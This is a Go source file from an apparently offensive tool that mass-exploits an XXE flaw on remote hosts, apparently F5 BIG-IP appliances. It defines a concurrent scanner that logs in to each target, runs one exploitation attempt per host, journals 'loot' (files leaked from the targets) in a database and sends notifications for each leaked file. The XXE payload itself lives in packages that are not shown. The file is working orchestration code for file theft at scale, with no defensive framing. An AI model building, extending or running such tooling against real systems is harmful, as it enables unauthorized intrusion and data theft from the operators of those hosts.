package exploit

import (
	"context"
	"errors"
	"sync"

	"github.com/GhostN3xus/bigipxxe/pkg/logging"
	"github.com/GhostN3xus/bigipxxe/pkg/network"
	"github.com/GhostN3xus/bigipxxe/pkg/storage/lootdb"
	"github.com/GhostN3xus/bigipxxe/pkg/xxe"
)

// ErrLoginFailed aborts a run: a rejected login on one host stops the hosts
// that have not started yet. Attempts already in flight run to completion.
var ErrLoginFailed = errors.New("exploit: login failed, run aborted")

// Journal records every finished attempt.
type Journal interface {
	UpsertTarget(ctx context.Context, host string, port int, ssl bool) (int64, error)
	RecordAttempt(ctx context.Context, a lootdb.Attempt) (int64, error)
}

// Notifier is told about every leaked file.
type Notifier interface {
	NotifyLeak(ctx context.Context, host, remotePath, lootPath string, size int) error
}

// Binder hands out a Sender for one base URL. *network.Client satisfies it.
type Binder interface {
	Bind(baseURL string) (*network.Endpoint, error)
}

// Scanner fans attempts out over a pool of workers, one attempt per host.
type Scanner struct {
	binder   Binder
	bind     func(baseURL string) (network.Sender, error)
	driver   *Driver
	workers  int
	journal  Journal
	notifier Notifier
	progress *logging.ProgressBar
	logger   *logging.Logger
}

type ScannerOption func(*Scanner)

func WithWorkers(n int) ScannerOption {
	return func(s *Scanner) {
		if n > 0 {
			s.workers = n
		}
	}
}

func WithJournal(j Journal) ScannerOption {
	return func(s *Scanner) { s.journal = j }
}

func WithNotifier(n Notifier) ScannerOption {
	return func(s *Scanner) { s.notifier = n }
}

func WithProgress(p *logging.ProgressBar) ScannerOption {
	return func(s *Scanner) { s.progress = p }
}

func WithScannerLogger(l *logging.Logger) ScannerOption {
	return func(s *Scanner) {
		if l != nil {
			s.logger = l
		}
	}
}

// withSenderFactory replaces endpoint binding, for tests.
func withSenderFactory(fn func(baseURL string) (network.Sender, error)) ScannerOption {
	return func(s *Scanner) { s.bind = fn }
}

func NewScanner(binder Binder, driver *Driver, opts ...ScannerOption) *Scanner {
	s := &Scanner{
		binder:  binder,
		driver:  driver,
		workers: 1,
		logger:  logging.Nop(),
	}
	s.bind = func(baseURL string) (network.Sender, error) {
		return s.binder.Bind(baseURL)
	}
	for _, opt := range opts {
		opt(s)
	}
	return s
}

// Scan runs one attempt per target and returns the attempts that ran, in
// target order. The error is ErrLoginFailed when a login was rejected, or
// the context error when the run was interrupted.
func (s *Scanner) Scan(ctx context.Context, targets []Target) ([]*Attempt, error) {
	// dispatch gates which hosts start; started attempts run on ctx.
	dispatch, cancel := context.WithCancel(ctx)
	defer cancel()

	results := make([]*Attempt, len(targets))
	var (
		mu          sync.Mutex
		loginFailed bool
	)

	s.logger.Info("run started", logging.Fields{"hosts": len(targets), "workers": s.workers})

	pool := newWorkerPool(dispatch, s.workers)
	for i, target := range targets {
		i, target := i, target
		pool.Submit(func() {
			if dispatch.Err() != nil {
				return
			}
			a := s.attempt(ctx, target)

			mu.Lock()
			results[i] = a
			if a.Outcome() == xxe.OutcomeLoginFailed && !loginFailed {
				loginFailed = true
				cancel()
			}
			mu.Unlock()

			s.finish(a)
		})
	}
	pool.Stop()

	out := make([]*Attempt, 0, len(results))
	for _, a := range results {
		if a != nil {
			out = append(out, a)
		}
	}

	if s.progress != nil {
		s.progress.Finish()
	}
	s.logger.Info("run finished", logging.Fields{"hosts": len(targets), "attempts": len(out)})

	switch {
	case loginFailed:
		return out, ErrLoginFailed
	case ctx.Err() != nil:
		return out, ctx.Err()
	}
	return out, nil
}

func (s *Scanner) attempt(ctx context.Context, target Target) *Attempt {
	sender, err := s.bind(target.BaseURL())
	if err != nil {
		now := s.driver.now()
		return &Attempt{
			Target:     target,
			State:      StateDone,
			Result:     xxe.Result{Outcome: xxe.OutcomeUnreachable, Detail: err.Error()},
			Err:        err,
			StartedAt:  now,
			FinishedAt: now,
		}
	}
	return s.driver.Run(ctx, sender, target)
}

// finish journals the attempt and sends notifications. It does not use the
// run context so a cancelled run still records what completed.
func (s *Scanner) finish(a *Attempt) {
	ctx := context.Background()
	if s.progress != nil {
		s.progress.HostDone(a.Outcome() == xxe.OutcomeLeaked, a.Outcome().Failed())
	}

	if s.journal != nil {
		if err := s.record(ctx, a); err != nil {
			s.logger.Error("failed to journal attempt", logging.Fields{"host": a.Target.Addr(), "error": err})
		}
	}

	if s.notifier != nil && a.Outcome() == xxe.OutcomeLeaked {
		if err := s.notifier.NotifyLeak(ctx, a.Target.Addr(), a.Result.SourcePath, a.LootPath, len(a.Result.Loot)); err != nil {
			s.logger.Warn("notification failed", logging.Fields{"host": a.Target.Addr(), "error": err})
		}
	}
}

func (s *Scanner) record(ctx context.Context, a *Attempt) error {
	targetID, err := s.journal.UpsertTarget(ctx, a.Target.Host, a.Target.Port, a.Target.SSL)
	if err != nil {
		return err
	}
	_, err = s.journal.RecordAttempt(ctx, a.Record(targetID))
	return err
}

// Record converts the attempt into its journal entry.
func (a *Attempt) Record(targetID int64) lootdb.Attempt {
	rec := lootdb.Attempt{
		TargetID:   targetID,
		Host:       a.Target.Host,
		Port:       a.Target.Port,
		RemoteFile: a.Target.RemoteFile,
		Entity:     a.Entity,
		Outcome:    a.Outcome().String(),
		Detail:     a.Result.Detail,
		ArtifactID: a.ArtifactID,
		LootPath:   a.LootPath,
		StartedAt:  a.StartedAt,
		FinishedAt: a.FinishedAt,
	}
	if a.Err != nil {
		rec.Error = a.Err.Error()
	}
	return rec
}

// workerPool runs tasks on a fixed number of goroutines. Its context stops
// dispatch; a task that already started is never interrupted by it.
type workerPool struct {
	ctx   context.Context
	tasks chan func()
	wg    sync.WaitGroup
}

func newWorkerPool(ctx context.Context, workers int) *workerPool {
	pool := &workerPool{ctx: ctx, tasks: make(chan func())}
	for i := 0; i < workers; i++ {
		go pool.worker()
	}
	return pool
}

func (p *workerPool) worker() {
	for {
		select {
		case <-p.ctx.Done():
			return
		case task, ok := <-p.tasks:
			if !ok {
				return
			}
			task()
			p.wg.Done()
		}
	}
}

// Submit queues task. Once the pool context is done, tasks are dropped.
func (p *workerPool) Submit(task func()) {
	p.wg.Add(1)
	select {
	case p.tasks <- task:
	case <-p.ctx.Done():
		p.wg.Done()
	}
}

func (p *workerPool) Stop() {
	p.wg.Wait()
	close(p.tasks)
}
